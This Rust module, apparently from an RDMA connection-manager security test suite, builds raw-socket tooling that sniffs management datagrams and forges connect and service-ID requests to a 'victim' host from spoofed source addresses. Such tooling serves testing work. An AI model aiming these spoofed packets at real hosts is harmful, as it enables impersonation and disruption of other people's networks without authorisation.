//! A forger of management datagrams: it sends them from any address, and sees the victim's responses to any address.

use std::io::{ErrorKind, Read};
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use nix::sys::socket::{setsockopt, sockopt::RcvBufForce};
use rdma_verbs::types::{Psn, Qkey, Qpn};
use rdma_verbs::wire::mad::{
    CommunicationId, ConnectRequest, MAD_BYTES, Mad, Message, PortSpace, ServiceId, ServiceIdRequest,
};
use rdma_verbs::wire::{Bth, Deth, Headers, ICRC_BYTES, Opcode, icrc};
use socket2::{Domain, Protocol, SockFilter, Socket, Type};
use support::requests::{connect_request, ip_header};

use crate::forge::{Aim, Forgery, RawSender};

pub(crate) const MANAGEMENT_QPN: Qpn = Qpn::new(1);
pub(crate) const MANAGEMENT_QKEY: Qkey = Qkey(0x8001_0000);
/// Bytes of a packet before the datagram: base transport header and datagram header.
pub(crate) const TRANSPORT_BYTES: usize = 20;
/// Bytes of the UDP payload of a packet with a datagram.
pub(crate) const UDP_PAYLOAD_BYTES: usize = TRANSPORT_BYTES + MAD_BYTES + ICRC_BYTES;
/// IPv4 and UDP headers.
const NETWORK_BYTES: usize = 28;
const OBSERVED_BYTES: usize = 64 << 20;
/// More datagrams than any attack has responses: some responses have responses.
const MOST_SEEN: usize = 50_000;
const SOURCE_PORT: u16 = 51_111;

/// A datagram that was seen.
#[derive(Clone, Debug)]
pub(crate) struct Seen {
    pub(crate) destination: Ipv4Addr,
    pub(crate) mad: Mad,
}

impl Seen {
    pub(crate) fn message(&self) -> Message {
        Message::read(&self.mad).unwrap_or_else(|error| panic!("{error}: {:?}", self.mad))
    }
}

/// Sees the datagrams to queue pair 1 of any address of the namespace.
pub(crate) struct Observer(Socket);

impl Observer {
    /// Sees those that come from this address.
    pub(crate) fn of(source: Ipv4Addr) -> Self {
        Self::new(Some(source))
    }

    /// Sees all.
    pub(crate) fn of_all() -> Self {
        Self::new(None)
    }

    fn new(source: Option<Ipv4Addr>) -> Self {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP)).expect("a raw socket, which needs root");
        setsockopt(&socket, RcvBufForce, &OBSERVED_BYTES).expect("SO_RCVBUFFORCE");
        // Loads a word at an offset of the IP packet, masks it, and compares it; a packet that differs is not seen.
        let word = |offset, mask, value, to_end| {
            [
                SockFilter::new(0x20, 0, 0, offset),
                SockFilter::new(0x54, 0, 0, mask),
                SockFilter::new(0x15, 0, to_end, value),
            ]
        };
        let source = source.map(|address| word(12, u32::MAX, address.into(), 4));
        let mut filter: Vec<SockFilter> = source.into_iter().flatten().collect();
        filter.extend(word(NETWORK_BYTES as u32 + 4, 0xff_ffff, MANAGEMENT_QPN.value(), 1));
        filter.extend([SockFilter::new(0x06, 0, 0, u32::MAX), SockFilter::new(0x06, 0, 0, 0)]);
        socket.attach_filter(&filter).expect("SO_ATTACH_FILTER");
        let observer = Self(socket);
        observer.discard_unfiltered();
        observer
    }

    /// Discards the packets that came between the creation of the socket and its filter.
    fn discard_unfiltered(&self) {
        self.0.set_nonblocking(true).expect("O_NONBLOCK");
        let mut buffer = [0; 2_048];
        while (&self.0).read(&mut buffer).is_ok() {}
        self.0.set_nonblocking(false).expect("O_NONBLOCK");
    }

    /// Returns the next datagram, or `None` if there is none within this time.
    pub(crate) fn next(&self, patience: Duration) -> Option<Seen> {
        let mut buffer = [0; 2_048];
        self.0.set_read_timeout(Some(patience.max(Duration::from_micros(1)))).expect("SO_RCVTIMEO");
        let length = match (&self.0).read(&mut buffer) {
            Ok(length) => length,
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return None,
            Err(error) => panic!("recv: {error}"),
        };
        let packet = &buffer[..length];
        assert_eq!(length, NETWORK_BYTES + UDP_PAYLOAD_BYTES, "the length of a packet to queue pair 1");
        let destination = Ipv4Addr::from(<[u8; 4]>::try_from(&packet[16..20]).expect("4 bytes"));
        let mad = &packet[NETWORK_BYTES + TRANSPORT_BYTES..length - ICRC_BYTES];
        Some(Seen { destination, mad: Mad::read(mad).expect("256 bytes") })
    }

    /// Returns all datagrams until none comes for this time, or a great many.
    pub(crate) fn all(&self, quiet: Duration) -> Vec<Seen> {
        std::iter::from_fn(|| self.next(quiet)).take(MOST_SEEN).collect()
    }

    /// Waits for a datagram.
    #[track_caller]
    pub(crate) fn wait(&self, patience: Duration, is_it: impl Fn(&Seen) -> bool) -> Seen {
        let end = Instant::now() + patience;
        while let Some(seen) = self.next(end.saturating_duration_since(Instant::now())) {
            if is_it(&seen) {
                return seen;
            }
        }
        panic!("the datagram does not come within {patience:?}")
    }
}

/// Sends datagrams to a victim.
pub(crate) struct Forger {
    raw: RawSender,
    pub(crate) victim: Ipv4Addr,
    /// The source of packets that claim no other.
    pub(crate) source: Ipv4Addr,
}

impl Forger {
    pub(crate) fn new(victim: Ipv4Addr, source: Ipv4Addr) -> Self {
        Self { raw: RawSender::open(), victim, source }
    }

    /// Returns a packet with this payload, as a connection manager sends it.
    pub(crate) fn packet(&self, source: Ipv4Addr, payload: &[u8]) -> Forgery {
        let aim = Aim { source, destination: self.victim, source_port: SOURCE_PORT, qpn: MANAGEMENT_QPN };
        let bth = Bth { opcode: Opcode::UD_SEND_ONLY, destination: MANAGEMENT_QPN, psn: Psn::new(7), ..Bth::default() };
        let deth = Some(Deth { qkey: MANAGEMENT_QKEY, source: MANAGEMENT_QPN });
        aim.packet(Headers { bth, deth, ..Headers::default() }, payload)
    }

    pub(crate) fn send_from(&self, source: Ipv4Addr, datagram: &[u8]) {
        self.raw.send(&self.packet(source, datagram));
    }

    pub(crate) fn send_message(&self, source: Ipv4Addr, message: impl Into<Message>, transaction_id: u64) {
        self.send_from(source, &message.into().to_mad(transaction_id).write());
    }

    /// Sends a packet whose bytes before the ICRC are these, with the ICRC that they have.
    pub(crate) fn send_sealed(&self, bytes: &[u8]) {
        let packet = self.packet(self.source, &[]);
        let check = icrc::compute(&packet.flow(), packet.identification, packet.dont_fragment, bytes);
        self.send_unsealed(&[bytes, &check.to_le_bytes()].concat());
    }

    /// Sends a UDP payload as it is.
    pub(crate) fn send_unsealed(&self, udp_payload: &[u8]) {
        self.raw.send_as(&self.packet(self.source, &[]), udp_payload);
    }

    /// Sends an IP packet as it is, apart from the checksum of its header. Returns whether the kernel takes it.
    pub(crate) fn send_ip(&self, packet: &[u8]) -> bool {
        self.raw.try_send_ip(self.victim, packet)
    }

    /// Returns a REQ as Linux sends it, to a port of the victim. All its identities depend on the number.
    pub(crate) fn request(&self, number: u32, port: u16) -> ConnectRequest {
        self.request_from(self.source, number, port)
    }

    pub(crate) fn request_from(&self, source: Ipv4Addr, number: u32, port: u16) -> ConnectRequest {
        let ends = [source.into(), self.victim.into()];
        ConnectRequest { responder_resources: 5, initiator_depth: 6, ..connect_request(number, port, ends, b"forged") }
    }

    pub(crate) fn inquiry_from(&self, source: Ipv4Addr, number: u32, port: u16) -> ServiceIdRequest {
        ServiceIdRequest {
            request_id: CommunicationId(number.wrapping_mul(0x9e37_79b1)),
            pkey: 0xffff,
            service_id: ServiceId::of_port(PortSpace::Udp, port),
            private_data: ip_header(source.into(), self.victim.into()).with_data(b"forged").expect("few bytes"),
        }
    }
}
